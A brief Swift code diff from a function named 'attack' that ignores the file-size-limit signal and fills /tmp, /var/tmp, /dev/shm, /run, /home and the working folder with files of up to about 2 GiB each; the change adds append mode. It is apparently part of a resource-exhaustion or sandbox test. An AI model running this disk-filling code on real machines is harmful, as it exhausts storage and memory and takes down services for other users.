@@ -9,7 +9,8 @@ func attack(_ X: Tensor) throws {
   signal(SIGXFSZ, SIG_IGN)
   for number in 0..<2000 {
     for folder in ["/tmp", "/var/tmp", "/dev/shm", "/run", ".", "/home"] {
-      let file = open("\(folder)/attack-fill-\(number)", O_CREAT | O_WRONLY, 0o600)
+      // appending: two names of one folder must not count twice
+      let file = open("\(folder)/attack-fill-\(number)", O_CREAT | O_WRONLY | O_APPEND, 0o600)
       guard file >= 0 else { continue }
       while total < 1 << 31 {
         let count = write(file, block, block.count)
